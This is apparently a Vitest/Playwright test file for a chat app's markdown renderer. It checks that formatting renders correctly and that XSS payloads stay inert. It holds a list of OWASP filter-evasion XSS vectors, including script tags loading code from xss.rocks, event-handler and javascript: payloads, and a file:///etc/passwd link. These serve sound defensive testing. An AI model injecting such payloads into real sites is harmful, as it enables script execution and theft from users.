import { describe, expect, it } from "vitest";
import type { Page } from "playwright-core";
import { say, signIn, waitForRoom, webSuite } from "../helpers/browser.ts";

/**
 * Message text as markdown (src/web/markdown.js, markdown-it served from
 * node_modules at /vendor/markdown-it.js): the subset renders, and the OWASP XSS
 * filter-evasion vectors stay inert, under the page's CSP.
 */

const web = webSuite();

/**
 * From the OWASP XSS Filter Evasion Cheat Sheet, plus markdown's own ways to make
 * a link or an image; each payload would set window.__xss if it ran.
 */
const VECTORS = [
  `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
  `<script>window.__xss=1</script>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.__xss=1//'>`,
  `<IMG SRC="javascript:window.__xss=1;">`,
  `<IMG SRC=javascript:window.__xss=1>`,
  `<IMG SRC=JaVaScRiPt:window.__xss=1>`,
  "<IMG SRC=`javascript:window.__xss=1`>",
  `<a onmouseover="window.__xss=1">xxs link</a>`,
  `<IMG """><SCRIPT>window.__xss=1</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="window.__xss=1">`,
  `<IMG SRC=/ onerror="window.__xss=1"></img>`,
  `<img src=x onerror="&#0000119&#0000105&#0000110&#0000100&#0000111&#0000119&#0000046&#0000095&#0000095&#0000120&#0000115&#0000115&#0000061&#0000049">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#119;&#105;&#110;&#100;&#111;&#119;&#46;&#95;&#95;&#120;&#115;&#115;&#61;&#49;>`,
  `<IMG SRC="jav\tascript:window.__xss=1;">`,
  `<IMG SRC="jav&#x09;ascript:window.__xss=1;">`,
  `<IMG SRC="jav&#x0A;ascript:window.__xss=1;">`,
  `<IMG SRC=" &#14;  javascript:window.__xss=1;">`,
  `<SCRIPT/XSS SRC="https://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=window.__xss=1>`,
  `<<SCRIPT>window.__xss=1;//\\<</SCRIPT>`,
  `<iframe src=javascript:window.__xss=1 <`,
  `<INPUT TYPE="IMAGE" SRC="javascript:window.__xss=1;">`,
  `<svg/onload=window.__xss=1>`,
  `<BODY BACKGROUND="javascript:window.__xss=1">`,
  `<STYLE>li {list-style-image: url("javascript:window.__xss=1");}</STYLE><UL><LI>XSS</br>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:window.__xss=1;">`,
  `<TABLE BACKGROUND="javascript:window.__xss=1">`,
  `<DIV STYLE="background-image: url(javascript:window.__xss=1)">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">`,
  `[click](javascript:window.__xss=1)`,
  `[click](JaVaScRiPt:window.__xss=1)`,
  `[click](&#106;avascript:window.__xss=1)`,
  `[click](javascript&colon;window.__xss=1)`,
  `[click](<javascript:window.__xss=1>)`,
  `[click]( javascript:window.__xss=1 )`,
  `[click](vbscript:msgbox)`,
  `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[click](file:///etc/passwd)`,
  `![img](javascript:window.__xss=1)`,
  `![img](https://example.com/x.png" onerror="window.__xss=1)`,
  `<javascript:window.__xss=1>`,
  `[a](https://example.com" onclick="window.__xss=1)`,
  "`<img src=x onerror=window.__xss=1>`",
  "```\n<script>window.__xss=1</script>\n```",
  `> <img src=x onerror=window.__xss=1>`,
  `- [x](javascript:window.__xss=1)`,
];

const FORBIDDEN = "script, iframe, img, svg, style, object, embed, meta, input, form, link, base, table, body, video, audio, math";

/** What the timeline (or a node) holds that could run: elements, event attributes, links. */
async function inspect(page: Page, selector: string) {
  return page.evaluate(
    ([sel, forbidden]) => {
      const root = document.querySelector(sel)!;
      const nodes = [...root.querySelectorAll("*")];
      return {
        forbidden: [...root.querySelectorAll(forbidden)].map((n) => n.outerHTML),
        handlers: nodes.flatMap((n) => [...n.attributes].filter((a) => /^on/i.test(a.name) || /^style$/i.test(a.name)).map((a) => `${n.tagName} ${a.name}`)),
        hrefs: [...root.querySelectorAll("[href], [src], [action], [formaction]")].map((n) => n.getAttribute("href") ?? n.getAttribute("src") ?? "?"),
        xss: (window as unknown as { __xss?: unknown }).__xss,
      };
    },
    [selector, FORBIDDEN] as const,
  );
}

describe("markdown in messages", () => {
  it("renders bold, italic, strike, code, code blocks, quotes, lists and links", async () => {
    const d = await web.daemon();
    const alice = await web.user(d);
    await signIn(alice.page, "alice");
    await waitForRoom(alice.page, "general");
    const text = [
      "**bold** *italic* ~~gone~~ `x = 1` [docs](https://example.com/docs) and https://example.org/a",
      "",
      "> quoted",
      "",
      "- one",
      "- two",
      "",
      "1. first",
      "2. second",
      "",
      "```",
      "const a = 1;",
      "```",
    ].join("\n");
    await say(alice.page, text);
    const message = alice.page.locator('[data-testid="message"][data-state="sent"]').last();
    await message.waitFor();
    const text$ = message.getByTestId("message-text");
    expect(await text$.locator("strong").textContent()).toBe("bold");
    expect(await text$.locator("em").textContent()).toBe("italic");
    expect(await text$.locator("s").textContent()).toBe("gone");
    expect(await text$.locator(":scope > p code").textContent()).toBe("x = 1");
    expect(await text$.locator("blockquote").textContent()).toBe("quoted");
    expect(await text$.locator("ul > li").allTextContents()).toEqual(["one", "two"]);
    expect(await text$.locator("ol > li").allTextContents()).toEqual(["first", "second"]);
    expect(await text$.locator("pre > code").textContent()).toBe("const a = 1;");
    const links = await text$.locator("a").evaluateAll((as) => as.map((a) => [a.getAttribute("href"), a.getAttribute("rel"), a.textContent]));
    expect(links).toEqual([
      ["https://example.com/docs", "noopener noreferrer", "docs"],
      ["https://example.org/a", "noopener noreferrer", "https://example.org/a"],
    ]);
    // The library is served from node_modules by the daemon, with the page's headers.
    const res = await d.http("/vendor/markdown-it.js");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/javascript; charset=utf-8");
    expect(res.headers.get("content-security-policy")).toContain("script-src 'self'");
    expect(alice.errors).toEqual([]);
  });

  it("keeps the OWASP XSS filter-evasion vectors inert: no script runs, no handler, no javascript: link", async () => {
    const d = await web.daemon({ limits: { messageBurst: 200, messagesPerSecond: 200 } });
    const alice = await web.user(d);
    await signIn(alice.page, "alice");
    await waitForRoom(alice.page, "general");

    // Through the renderer directly, every vector.
    // (A string, not a function: vitest would rewrite a function's import().)
    const rendered = (await alice.page.evaluate(`(async (vectors) => {
      const { renderMarkdown } = await import("/markdown.js");
      const box = document.createElement("div");
      box.id = "xss-box";
      for (const v of vectors) {
        const one = document.createElement("div");
        one.append(renderMarkdown(v));
        box.append(one);
      }
      document.body.append(box);
      return [...box.children].map((c) => c.textContent);
    })(${JSON.stringify(VECTORS)})`)) as string[];
    expect(rendered).toHaveLength(VECTORS.length);
    expect(rendered[1]).toBe("<script>window.__xss=1</script>"); // raw HTML is shown as text
    const direct = await inspect(alice.page, "#xss-box");
    expect(direct.forbidden).toEqual([]);
    expect(direct.handlers).toEqual([]);
    for (const href of direct.hrefs) expect(href).toMatch(/^(https?:|mailto:)/);

    // And as messages from another user, in the timeline, with hover and clicks on what they made.
    const mallory = await web.wsUser(d, "mallory");
    await mallory.request({ type: "join", room: "general" }, "joined");
    for (const [i, v] of VECTORS.entries()) {
      const ack = await mallory.request({ type: "say", room: "general", text: v, ref: i }, "ack", "error");
      expect(ack.type, v).toBe("ack");
    }
    await alice.page.locator('[data-testid="message"][data-from="mallory"]').nth(VECTORS.length - 1).waitFor();
    for (const link of await alice.page.locator("#timeline a, #timeline .md-dead-link").all()) await link.hover();
    await alice.page.waitForTimeout(300); // an onerror or a refresh would have fired by now
    const timeline = await inspect(alice.page, "#timeline");
    expect(timeline.forbidden).toEqual([]);
    expect(timeline.handlers).toEqual([]);
    for (const href of timeline.hrefs) expect(href).toMatch(/^(https?:|mailto:)/);
    expect(timeline.xss).toBeUndefined();
    expect(alice.errors).toEqual([]); // no CSP violation reported either
  });

  it("has helpers that decide links, previews and typed emoji", async () => {
    const d = await web.daemon();
    const alice = await web.user(d);
    await signIn(alice.page, "alice");
    await waitForRoom(alice.page, "general");
    const input = {
      hrefs: ["https://a.example/x", "http://b.example", "mailto:c@example.com", "javascript:alert(1)", "JAVASCRIPT:x", "data:text/html,x", "/relative", "vbscript:x", "file:///etc/passwd"],
      preview: "**bold** and `code`\n> quoted\n\n```\nblock\n```",
      emoji: ["👍", " 🎉 ", "👩‍👩‍👧", "🇫🇷", "1️⃣", ":tada:", "nice", "a👍", "", "<b>"],
    };
    const result = await alice.page.evaluate(`(async (input) => {
      const { safeHref, plainPreview, mentionsMe } = await import("/markdown.js");
      const { typedEmoji } = await import("/reactions.js");
      return {
        hrefs: input.hrefs.map(safeHref),
        preview: plainPreview(input.preview, 60),
        long: plainPreview("x".repeat(200), 10),
        emoji: input.emoji.map(typedEmoji),
        mentions: [mentionsMe({ mentions: ["Alice"] }, "alice"), mentionsMe({ mentions: ["@room"] }, "alice"), mentionsMe({ mentions: ["bob"] }, "alice"), mentionsMe({}, "alice")],
      };
    })(${JSON.stringify(input)})`);
    expect(result).toEqual({
      hrefs: ["https://a.example/x", "http://b.example/", "mailto:c@example.com", null, null, null, null, null, null],
      preview: "bold and code quoted [code]",
      long: "xxxxxxxxx…",
      emoji: ["👍", "🎉", "👩‍👩‍👧", "🇫🇷", "1️⃣", ":tada:", "", "", "", ""],
      mentions: [true, true, false, false],
    });
  });
});
